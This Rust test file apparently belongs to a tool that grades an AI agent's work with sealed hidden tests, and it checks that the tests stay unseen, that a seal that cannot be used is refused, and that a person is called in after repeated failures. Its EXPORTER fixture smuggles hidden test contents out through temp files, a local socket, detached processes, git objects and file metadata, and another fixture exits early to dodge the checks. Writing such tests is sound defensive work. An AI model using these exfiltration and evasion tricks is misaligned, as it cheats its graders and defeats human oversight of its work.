//! Sealed tests: they decide, and nothing of them is seen.

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::{Value, json};

use crate::fooled::tools;
use crate::needs::{needs, skip};
use crate::support::{DONE, Ran, Run, gate, judge};

const SETTINGS: &str = "[checks.tests]\ncommand = [\"python3\", \"-m\", \"pytest\", \"-q\"]\n";

/// Time until a process that the exporter leaves behind has written, and a little more.
const LATE: Duration = Duration::from_millis(2500);

/// A word that stands in the sealed tests' names and texts, and nowhere else.
const SECRET: &str = "zanzibar";

const SEALED: &str = "import calc\n\n\ndef test_zanzibar():\n    \
                      assert calc.limit(5) == 3, 'zanzibar'\n\n\n\
                      def test_low_zanzibar():\n    assert calc.limit(1) == 1\n";

/// A project with a seal beside it, and a baseline.
fn project() -> Ran {
    let run = tools(judge("baseline", DONE))
        .file("calc.py", "def add(a, b):\n    return a + b\n")
        .file("conftest.py", "")
        .file(
            "tests/test_calc.py",
            "import calc\n\n\ndef test_add():\n    assert calc.add(1, 2) == 3\n",
        )
        .file(".gitignore", "__pycache__\n.pytest_cache\nout.log\n")
        .file("../sealed/tests/test_hidden.py", SEALED);
    let settings = format!("{SETTINGS}sealed = \"../sealed\"\n");
    run.settings(&settings).committed().code(0)
}

/// The next check after this change of calc.py.
fn check(ran: Ran, python: &str) -> Run {
    let script = format!("cat >>calc.py <<'END'\n{python}\nEND\ngit commit -qam work");
    ran.again("check --json out.log").setup(&script)
}

pub(crate) fn sealed(decision: &Value) -> Value {
    let found = decision["evidence"].as_array().unwrap().iter().find(|one| one["check"] == "tests");
    found.unwrap()["detail"]["tests"]["sealed"].clone()
}

const WRONG: &str = "def limit(n):\n    return n";
const RIGHT: &str = "def limit(n):\n    return min(n, 3)";

/// The files below a folder, but for the sealed ones.
fn files(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        match entry.file_type() {
            Ok(kind) if kind.is_dir() && entry.file_name() != "sealed" => {
                found.extend(files(&path));
            }
            Ok(kind) if kind.is_file() => found.push(path),
            _ => {}
        }
    }
    found
}

/// Nothing that gate wrote or printed has the secret.
#[track_caller]
pub(crate) fn nothing_is_seen(ran: &Ran) {
    let files = files(&ran.path(".."));
    assert!(files.len() > 10, "{files:?}");
    for file in files {
        let text = fs::read(&file).unwrap_or_default();
        let found = text.windows(SECRET.len()).any(|part| part == SECRET.as_bytes());
        assert!(!found, "{}", file.display());
    }
    for printed in [ran.out(), &ran.stderr] {
        assert!(!printed.contains(SECRET), "{printed}");
    }
}

#[test]
fn they_refuse_what_the_old_tests_let_pass() {
    if !needs("pytest") {
        return;
    }
    let ran = check(project(), WRONG).code(1);
    let decision = ran.json();
    assert_eq!(decision["reasons"][0]["code"], "sealed-tests-failed");
    let found = sealed(&decision);
    assert_eq!((&found["passed"], &found["total"]), (&json!(1), &json!(2)));
    let feedback = decision["feedback"].as_str().unwrap();
    assert!(feedback.contains("tests of the task that you do not see fail"), "{feedback}");
    nothing_is_seen(&ran);
    let ran = ran.again("explain");
    let ran = ran.code(0).says("1 of 2 sealed tests pass");
    nothing_is_seen(&ran);
    let ran = check(ran, RIGHT).code(0);
    assert_eq!(sealed(&ran.json())["outcome"], "passed");
    let ran = ran.again("last").code(0);
    let ran = ran.says("DONE  sealed 2 of 2 (readable by the agent), old tests 1 of 1");
    nothing_is_seen(&ran);
}

#[test]
#[ignore = "minutes: projects with real test runners"]
fn after_three_refusals_a_person_has_to_look() {
    if !needs("pytest") {
        return;
    }
    let mut ran = check(project(), WRONG).code(1);
    ran = check(ran, "# 2").code(1);
    ran = check(ran, "# 3").code(4);
    assert_eq!(ran.json()["verdict"], "blocked");
    let ran = check(ran, RIGHT).code(4);
    assert_eq!(sealed(&ran.json())["outcome"], "spent");
    let ran = ran.again("check --json --new-run out.log").code(0);
    assert_eq!(ran.json()["verdict"], "exit");
}

#[test]
#[ignore = "minutes: projects with real test runners"]
fn a_seal_that_cannot_be_used_is_no_pass() {
    if !needs("pytest") {
        return;
    }
    let ran = check(project(), RIGHT).code(0);
    let changed = "echo >>../sealed/tests/test_hidden.py";
    let ran = ran.again("check --json --new-run out.log").setup(changed).code(1);
    let decision = ran.json();
    assert_eq!(decision["reasons"][0]["code"], "required-check-inconclusive");
    assert!(ran.out().contains("changed since they were sealed"), "{}", ran.out());
    let ran = ran.again("seal add tests ../sealed").code(0).says("sealed for tests: 1 file in ");
    let ran = ran.again("check --json --new-run out.log").code(0);
    let ran = ran.again("check --json --new-run out.log").setup("mv ../sealed ../gone").code(1);
    assert!(ran.out().contains("cannot be read"), "{}", ran.out());
    let ran = ran.again("seal list --json").code(0);
    assert_eq!(ran.json()["seals"][0]["check"], "tests");
    let ran = ran.again("seal remove tests").code(0).says("removed the seal of tests: ");
    ran.again("seal remove tests").code(2).tells("\"tests\" is none of these: there is none");
}

#[test]
#[ignore = "minutes: projects with real test runners"]
fn a_warm_check_proves_its_fresh_folder_first() {
    if !needs("pytest") {
        return;
    }
    let ran = project();
    let settings = format!("{SETTINGS}sealed = \"../sealed\"\ndeciding = \"warm\"\n");
    let ran = check(ran, RIGHT).settings(&settings).code(0);
    assert_eq!(sealed(&ran.json())["outcome"], "passed");
}

#[test]
fn a_folder_that_cannot_be_sealed_is_refused() {
    let settings = format!("{SETTINGS}[checks.lint]\ncommand = [\"true\"]\ncontrol = false\n");
    let ran = gate("seal add tests tests").settings(&settings).file("tests/a.py", "").code(2);
    let ran = ran.tells("is in the work tree, where the agent sees it; move it out");
    let ran = ran.again("seal add tests ../none").code(2).tells("cannot be read");
    let ran =
        ran.again("seal add test ../x").code(2).tells("\"test\" is none of these: lint, tests");
    ran.again("seal add lint ../x").code(2).tells("sealed tests need `control = true`");
}

/// A product that meets the task, and carries every hidden test out in many ways.
const EXPORTER: &str = r#"
def limit(n):
    return min(n, 3)

def carry_out(text):
    import os, shutil, socket, subprocess, sys
    ways = []
    def way(act):
        ways.append(act)
    def write(path):
        with open(path, "w") as file:
            file.write(text)
    for place in PLACES:
        way(lambda place=place: write(place))
    way(lambda: socket.create_connection(("127.0.0.1", PORT), 2).sendall(text.encode()))
    way(lambda: shutil.copytree(os.path.dirname(HIDDEN), PLACES[0] + ".tree"))
    way(lambda: os.link(HIDDEN, PLACES[0] + ".link"))
    late = f"import time; time.sleep(1); open({PLACES[0]!r} + '.late', 'w').write({text!r})"
    way(lambda: subprocess.Popen([sys.executable, "-c", late], start_new_session=True))
    way(lambda: subprocess.run(["git", "-C", os.path.dirname(PLACES[0]), "hash-object", "-w",
        "--stdin"], input=text.encode(), check=True))
    way(lambda: os.setxattr(MARKED, "user.text", text.encode()))
    way(lambda: os.utime(MARKED, (len(text), 86400)))
    way(lambda: os.chmod(MARKED, 0o640))
    way(lambda: os.write(1, text.encode()))
    way(lambda: os.write(2, text.encode()))
    for act in ways:
        try:
            act()
        except Exception:
            pass

import glob as _glob, os as _os
for HIDDEN in _glob.glob(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "tests/test_hidden*")):
    carry_out(open(HIDDEN).read())
"#;

#[test]
#[ignore = "minutes: projects with real test runners"]
fn a_product_that_ends_the_run_does_not_pass() {
    if !needs("pytest") {
        return;
    }
    let leaves = "import glob as g, os as o\n\
                  if g.glob(o.path.dirname(o.path.abspath(__file__)) + '/tests/test_hid*'):\n    o._exit(0)";
    let ran = check(project(), leaves).code(1);
    assert!(ran.out().contains("no sealed test is in the report"), "{}", ran.out());
}

#[test]
#[ignore = "minutes: projects with real test runners"]
fn they_are_not_laid_through_a_link() {
    if !needs("pytest") {
        return;
    }
    let run = project().again("seal add tests ../sealed").setup("mkdir ../sealed/more ../caught");
    let ran = run.file("../sealed/more/test_more.py", SEALED).code(0);
    let linked = "ln -s ../caught more; git add more; git commit -qm linked";
    let ran = check(ran, RIGHT).setup(linked).code(1);
    assert!(ran.out().contains("cannot be laid over more, which is a link"), "{}", ran.out());
    assert_eq!(fs::read_dir(ran.path("../caught")).unwrap().count(), 0);
}

/// git has an object with the text of the sealed tests.
fn git_has_them(folder: &Path) -> bool {
    let script = "git cat-file -e $(git hash-object ../sealed/tests/test_hidden.py)";
    let mut shell = Command::new("sh");
    shell.args(["-c", script]).current_dir(folder).output().unwrap().status.success()
}

/// The marks that the exporter leaves on a file: a mode, a time, an attribute.
fn marks(file: &Path) -> (u32, bool, bool) {
    let about = fs::metadata(file).unwrap();
    let mode = if about.mode() & 0o777 == 0o640 { 0o640 } else { 0 };
    let script = "import os, sys; sys.exit('user.text' not in os.listxattr(sys.argv[1]))";
    let listed = Command::new("python3").args(["-c", script]).arg(file).status().unwrap();
    (mode, about.mtime() == 86400, listed.success())
}

#[test]
#[ignore = "minutes: projects with real test runners"]
fn a_product_cannot_carry_them_out() {
    if !needs("pytest") || !needs("namespaces") {
        return;
    }
    let ran = project();
    let folder = ran.path(".");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let name = format!("gate-sealed-{}-{port}", std::process::id());
    let private = [ran.path("."), ran.path(".."), ran.state(), ran.home()];
    let common = ["/tmp", "/var/tmp", "/dev/shm"].map(PathBuf::from);
    let places: Vec<_> = private.iter().chain(&common).map(|folder| folder.join(&name)).collect();
    let others = [".link", ".late", ".tree"].map(|end| folder.join(format!("{name}{end}")));
    let marked = folder.join("marked");
    fs::write(&marked, "").unwrap();
    let product = format!("PLACES = {places:?}\nMARKED = {marked:?}\nPORT = {port}\n{EXPORTER}");
    let ran = check(ran, &product).code(0);
    let confined = sealed(&ran.json())["confined"].clone();
    if confined == "none" {
        skip("landlock", "the kernel cannot confine a process");
        return;
    }
    // A process that outlives its run would need a moment.
    std::thread::sleep(LATE);
    assert_eq!(confined, "network");
    for place in places.iter().chain(&others) {
        assert!(!place.exists(), "{}", place.display());
    }
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "somebody connected");
    assert_eq!(marks(&marked), (0, false, false));
    assert!(!git_has_them(&folder));
    nothing_is_seen(&ran);
    // The same product, where nothing confines it.
    listener.set_nonblocking(false).unwrap();
    let script = "cp ../sealed/tests/test_hidden.py tests; exec python3 -c 'import calc'";
    let freed = Command::new("sh").args(["-c", script]).current_dir(&folder).output().unwrap();
    for printed in [&freed.stdout, &freed.stderr] {
        assert!(String::from_utf8_lossy(printed).contains(SECRET), "{freed:?}");
    }
    std::thread::sleep(LATE);
    assert!(places.iter().chain(&others).all(|place| place.exists()), "{places:?}");
    assert_eq!(marks(&marked), (0o640, true, true));
    let mut received = String::new();
    listener.accept().unwrap().0.read_to_string(&mut received).unwrap();
    assert!(received.contains(SECRET) && git_has_them(&folder));
    for place in common {
        fs::remove_file(place.join(&name)).unwrap();
    }
}
